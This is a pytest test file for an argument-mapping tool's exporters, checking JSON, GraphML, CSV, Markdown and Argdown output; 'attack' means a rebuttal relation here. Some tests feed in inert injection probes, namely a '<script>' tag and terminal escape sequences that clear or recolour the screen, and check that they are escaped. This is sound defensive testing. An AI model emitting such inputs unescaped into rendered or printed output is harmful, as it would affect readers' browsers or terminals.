def test_export_json_given_to_ingest_names_the_aif_export(kialo_settings: Settings, tmp_path: Path) -> None:
    """argmap's own JSON export, ingested back, was "is JSON, but not in a thread format argmap knows" with a list
    of --format values, none of which reads it; the message says what the file is and the export that does come
    back (which this test then ingests, as the fix says)."""
    from argmap import read_thread
    from argmap.errors import UnknownFormat

    exported = tmp_path / "maps.json"
    exported.write_text(json.dumps(api.export(settings=kialo_settings)), encoding="utf-8")
    with pytest.raises(UnknownFormat, match=r"maps\.json: is argmap's own JSON export, which argmap ingest does "
                                            r"not read back \(argmap eval --predicted reads it") as caught:
        read_thread(exported)
    assert "fix: export the threads as AIF" in str(caught.value)
    assert "argmap export --format aif -o FILE.aif.json" in str(caught.value)
    again = Settings(db=str(tmp_path / "again.db"))
    report = api.ingest(exported, settings=again)
    assert [failure.error for failure in report.failures] == [str(caught.value)]
    aif = tmp_path / "maps.aif.json"
    aif.write_text(_text(kialo_settings, "aif"), encoding="utf-8")
    assert api.ingest(aif, settings=again).ok
    assert api.export(settings=again) == api.export(settings=kialo_settings)


def test_export_json_and_graphml_say_which_attacks_are_assumed() -> None:
    """A script reading the export had to parse the reason to tell an attack the words show from one only assumed
    (no word of the answer agrees or disagrees)."""
    from argmap.nlp.stance import NO_CUE
    from argmap.render.export import to_json
    from argmap.store.models import RelationInfo, UnitInfo

    def relation(rid: str, kind: str, reason: str) -> RelationInfo:
        return RelationInfo(id=rid, thread="t", source="a", target="b", kind=kind, confidence=0.5, model="m",
                            reason=reason)

    units = [UnitInfo(id=u, post="p", thread="t", kind="claim", text=f"unit {u}", start=0, end=1, confidence=0.9,
                      model="m", reason="r", topics=["bus"]) for u in "abcd"]
    data = GraphData(units=units, relations=[
        relation("r1", "attack", f"reply {NO_CUE}"),
        relation("r2", "attack", "disagrees").model_copy(update={"source": "c"}),
        relation("r3", "support", f"x {NO_CUE}").model_copy(update={"source": "d"})])
    rows = to_json(data)["relations"]
    assert [(r["id"], r["assumed"]) for r in rows] == [("r1", True), ("r2", False), ("r3", False)]
    assert list(rows[0]) == ["id", "source", "target", "kind", "confidence", "model", "reason", "assumed"]
    graph = nx.parse_graphml(to_graphml(data))
    assert sorted((d["id"], d["assumed"]) for *_, d in graph.edges(data=True)) == [
        ("r1", True), ("r2", False), ("r3", False)]  # a typed boolean, as Gephi reads it
    rows = list(csv.DictReader(io.StringIO(to_csv(data))))
    assert [(r["record"], r["id"], r["assumed"]) for r in rows] == [
        ("unit", "a", ""), ("unit", "b", ""), ("unit", "c", ""), ("unit", "d", ""),
        ("relation", "r1", "true"), ("relation", "r2", "false"), ("relation", "r3", "false")]
    report = to_markdown(data)
    assert "  - attacked by: unit a *(assumed, confidence 0.50)*" in report
    assert "  - attacked by: unit c *(confidence 0.50)*" in report and "unit d *(confidence 0.50)*" in report


def test_export_argdown_title_with_a_control_character_parses(tmp_path: Path) -> None:
    """An ESC in a thread's title went raw into the YAML front matter, which then did not parse
    ("YAMLException: expected valid JSON character"); it is U+FFFD there, as in GraphML."""
    graph = nx.DiGraph(threads={"t": "Ctrl \x1b[31m title\x7f"})
    graph.add_node("c", kind="claim", text="Buses should be free")
    text = to_argdown(graph)
    assert 'title: "Ctrl \ufffd[31m title\ufffd"' in text and "\x1b" not in text
    parsed = _argdown_json(text, tmp_path)
    assert [m["text"] for entry in parsed["statements"].values() for m in entry["members"]] == ["Buses should be free"]


def test_export_markdown_shows_text_as_written() -> None:
    """A post saying "&lt;b&gt;" showed as "<b>", "AT&amp;T" as "AT&T", and "~~strike~~" struck through: the report
    escaped Markdown's marks but not its character references or strikethrough."""
    from markdown_it import MarkdownIt

    from argmap.render.export import _md

    written = "Use &lt;b&gt; for AT&amp;T &copy; and ~~strike~~ <script>x</script> *not bold*"
    html = MarkdownIt("commonmark").enable("strikethrough").render(_md(written))
    assert html == ("<p>Use &amp;lt;b&amp;gt; for AT&amp;amp;T &amp;copy; and ~~strike~~ "
                    "&lt;script&gt;x&lt;/script&gt; *not bold*</p>\n")


def test_export_graphml_keeps_carriage_returns() -> None:
    """A text holding a carriage return (an AIF map's "\\r\\n", kept as the map gave it) came back from the GraphML
    with a line feed for it: networkx split the document into lines there, and XML reads a bare one as a line end.
    It is written as a character reference, and read back as it was."""
    from argmap.store.models import UnitInfo

    text = "Night buses\rshould run\r\nall year"
    units = [UnitInfo(id="a", post="p", thread="t", kind="claim", text=text, start=0, end=len(text), confidence=0.9,
                      model="m", reason="why:\r\nbecause", topics=[])]
    written = to_graphml(GraphData(units=units))
    assert "\r" not in written and "Night buses&#13;should run&#13;\nall year" in written
    [(_node, attrs)] = nx.parse_graphml(written).nodes(data=True)
    assert (attrs["text"], attrs["label"], attrs["reason"]) == (text, text, "why:\r\nbecause")


def test_export_markdown_shows_control_characters_as_replacement_characters() -> None:
    """A post's terminal escapes (ESC[2J, ESC[31m, a bell) went raw into the report, which export --format md prints
    on standard output: the terminal cleared its screen or turned red. They are U+FFFD, as GraphML writes them."""
    from datetime import datetime

    from argmap.store.models import ThreadInfo, UnitInfo

    units = [UnitInfo(id="a", post="p", thread="t", kind="claim", text="Buses \x1b[2Jshould be\x07 free\x9b",
                      start=0, end=1, confidence=0.9, model="m", reason="r", topics=["bus"])]
    thread = ThreadInfo(id="t", key="k", format="jsonl", source="s", title="Ctrl \x1b[31m title", url=None, posts=1,
                        units=1, relations=0, missing=0, ingested_at=datetime(2024, 3, 1))
    report = to_markdown(GraphData(threads=[thread], units=units))
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", report)
    assert report.startswith("# Ctrl \ufffd\\[31m title\n")
    assert "- **Buses \ufffd\\[2Jshould be\ufffd free\ufffd** `a`" in report


def test_export_argdown_titles_many_copies_of_one_text_in_linear_time() -> None:
    """Each copy of a title counted up from 2 past every copy before it: 20,000 replies saying "I agree with you
    completely" took 46 s to title. Each copy now starts where the one before stopped (0.5 s), titles unchanged."""
    import time

    graph = nx.DiGraph(threads={"t": "Agreement"})
    graph.add_node("x", kind="claim", text="I agree with you completely 3")  # a title a copy would take: passed over
    for n in range(20_000):
        graph.add_node(f"u{n}", kind="claim", text="I agree with you completely!")
    started = time.perf_counter()
    text = to_argdown(graph)
    assert time.perf_counter() - started < 10
    titles = re.findall(r"^\[(I agree with you completely(?: \d+)?)\]: ", text, re.MULTILINE)
    assert titles[:4] == ["I agree with you completely 3", "I agree with you completely",
                          "I agree with you completely 2", "I agree with you completely 4"]
    assert len(set(titles)) == 20_001 and titles[-1] == "I agree with you completely 20001"


def test_export_argdown_of_a_deep_chain_nests_no_deeper_than_the_tools_read(tmp_path: Path) -> None:
    """A reply chain of 2,000 posts nested 2,000 levels deep (a 9 MB file, 4 MB of indentation), and @argdown/cli
    ran out of stack between 200 and 400 levels. Past MAX_NESTING a unit opens a tree of its own, by its title."""
    from argmap.render.argdown import MAX_NESTING

    graph = nx.DiGraph(threads={"t": "Chain"})
    for n in range(450):
        graph.add_node(f"u{n}", kind="claim", text=f"Point number {n} of the long chain")
        if n:
            graph.add_edge(f"u{n}", f"u{n - 1}", kind="attack")
    text = to_argdown(graph)
    depth = max(len(line) - len(line.lstrip(" ")) for line in text.splitlines()) // 4
    assert depth == MAX_NESTING
    assert sum(1 for line in text.splitlines() if line.lstrip().startswith("<- ")) == 449  # each relation once
    assert all(text.count(f"Point number {n} of the long chain") == 1 for n in range(450))  # each text once
    parsed = _argdown_json(text, tmp_path)
    assert len(parsed["statements"]) == 450
    assert sorted((r["from"], r["to"]) for r in parsed["relations"]) == sorted(
        (f"Point number {n} of the long", f"Point number {n - 1} of the long") for n in range(1, 450))


def test_export_markdown_counts_read_as_counts(kialo_settings: Settings) -> None:
    """The report's first line said '1 posts' of a one-post thread and '10663 units' of a large one, where every
    other count argmap prints is singular after one and thousands separated; it now reads '1 post'."""
    data = api.graph_data(settings=kialo_settings)
    data.posts = data.posts[:1]
    line = to_markdown(data).splitlines()[2]
    assert line.startswith("1 post, ") and "1 posts" not in line
    data.posts = data.posts * 1200
    assert to_markdown(data).splitlines()[2].startswith("1,200 posts, ")
